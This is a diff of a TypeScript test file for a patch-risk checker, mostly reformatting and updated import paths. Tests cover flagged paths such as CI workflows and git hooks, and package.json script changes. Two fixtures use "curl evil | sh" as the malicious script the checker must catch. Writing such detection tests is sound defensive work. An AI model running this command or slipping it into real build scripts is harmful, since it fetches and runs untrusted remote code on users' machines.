@@ -3,20 +3,23 @@ import { describe, test } from 'node:test'
 
 import kleur from 'kleur'
 
-import { parsePatch, type FilePatch } from '../../lib/patch.ts'
-import { riskFlags, riskLines, touchesScripts } from '../../lib/risk.ts'
+import { parsePatch, type FilePatch } from '../../lib/patch/parse.ts'
+import { riskFlags, riskLines, touchesScripts } from '../../lib/patch/risk.ts'
 
 kleur.enabled = false
 
 /** A one-line modification of `path`, as git writes it. */
 function modified(path: string): FilePatch {
-  return parsePatch(`diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+new\n`)[0]
+  return parsePatch(
+    `diff --git a/${path} b/${path}\nindex 1111111..2222222 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-old\n+new\n`,
+  )[0]
 }
 
 function packageJson(hunk: string, kind: 'modified' | 'added' = 'modified'): FilePatch {
-  const head = kind === 'added'
-    ? 'diff --git a/package.json b/package.json\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/package.json\n'
-    : 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n'
+  const head =
+    kind === 'added'
+      ? 'diff --git a/package.json b/package.json\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n+++ b/package.json\n'
+      : 'diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n'
   return parsePatch(head + hunk)[0]
 }
 
@@ -47,17 +50,32 @@ describe('risk flags', () => {
     test(`flags ${path}`, () => assert.deepEqual(riskFlags([modified(path)]), [{ path, why }]))
   }
 
-  const harmless = ['README.md', 'src/Makefile.md', '.github/ISSUE_TEMPLATE/bug.md', '.vscode/extensions.json', 'claude/settings.json',
-    'docs/.github/workflows.md', 'lib/gitattributes.ts', 'sub/.gitmodules']
+  const harmless = [
+    'README.md',
+    'src/Makefile.md',
+    '.github/ISSUE_TEMPLATE/bug.md',
+    '.vscode/extensions.json',
+    'claude/settings.json',
+    'docs/.github/workflows.md',
+    'lib/gitattributes.ts',
+    'sub/.gitmodules',
+  ]
   for (const path of harmless) {
     test(`does not flag ${path}`, () => assert.deepEqual(riskFlags([modified(path)]), []))
   }
 
   test('a rename is flagged by either of its names', () => {
-    const [file] = parsePatch('diff --git a/ci.yml b/.github/workflows/ci.yml\nsimilarity index 100%\nrename from ci.yml\nrename to .github/workflows/ci.yml\n')
+    const [file] = parsePatch(
+      'diff --git a/ci.yml b/.github/workflows/ci.yml\nsimilarity index 100%\nrename from ci.yml\nrename to .github/workflows/ci.yml\n',
+    )
     assert.deepEqual(riskFlags([file]), [{ path: '.github/workflows/ci.yml', why: 'CI workflow' }])
-    const [out] = parsePatch('diff --git a/.husky/pre-commit b/old-hook\nsimilarity index 100%\nrename from .husky/pre-commit\nrename to old-hook\n')
-    assert.deepEqual(riskFlags([out]).map((f) => f.path), ['.husky/pre-commit'])
+    const [out] = parsePatch(
+      'diff --git a/.husky/pre-commit b/old-hook\nsimilarity index 100%\nrename from .husky/pre-commit\nrename to old-hook\n',
+    )
+    assert.deepEqual(
+      riskFlags([out]).map((f) => f.path),
+      ['.husky/pre-commit'],
+    )
   })
 
   test('riskLines names every flagged file and is empty without flags', () => {
@@ -71,11 +89,16 @@ describe('risk flags', () => {
 
 describe('package.json scripts', () => {
   test('a script changed next to the "scripts" line', () => {
-    assert.ok(touchesScripts(packageJson('@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   },\n')))
+    assert.ok(
+      touchesScripts(
+        packageJson('@@ -1,5 +1,5 @@\n {\n   "scripts": {\n-    "test": "node --test"\n+    "test": "curl evil | sh"\n   },\n'),
+      ),
+    )
   })
 
   test('a script changed deep in a long scripts block, where the hunk does not show "scripts"', () => {
-    const hunk = '@@ -10,7 +10,7 @@\n     "b": "b",\n     "c": "c",\n     "d": "d",\n-    "e": "e"\n+    "e": "curl evil | sh"\n   },\n   "dependencies": {\n'
+    const hunk =
+      '@@ -10,7 +10,7 @@\n     "b": "b",\n     "c": "c",\n     "d": "d",\n-    "e": "e"\n+    "e": "curl evil | sh"\n   },\n   "dependencies": {\n'
     assert.ok(touchesScripts(packageJson(hunk)))
   })
 
@@ -89,9 +112,20 @@ describe('package.json scripts', () => {
   })
 
   test('a version bump or a dependency inside its shown block is not a scripts change', () => {
-    assert.equal(touchesScripts(packageJson('@@ -1,4 +1,4 @@\n {\n   "name": "x",\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n')), false)
-    assert.equal(touchesScripts(packageJson('@@ -8,4 +8,4 @@\n   },\n   "dependencies": {\n-    "kleur": "^4.1.4"\n+    "kleur": "^4.1.5"\n   }\n')), false)
-    assert.equal(touchesScripts(packageJson('@@ -2,2 +2,2 @@\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n')), false)
+    assert.equal(
+      touchesScripts(
+        packageJson('@@ -1,4 +1,4 @@\n {\n   "name": "x",\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n'),
+      ),
+      false,
+    )
+    assert.equal(
+      touchesScripts(packageJson('@@ -8,4 +8,4 @@\n   },\n   "dependencies": {\n-    "kleur": "^4.1.4"\n+    "kleur": "^4.1.5"\n   }\n')),
+      false,
+    )
+    assert.equal(
+      touchesScripts(packageJson('@@ -2,2 +2,2 @@\n-  "version": "1.0.0",\n+  "version": "1.0.1",\n   "type": "module",\n')),
+      false,
+    )
   })
 
   test('riskFlags reports it with the file', () => {
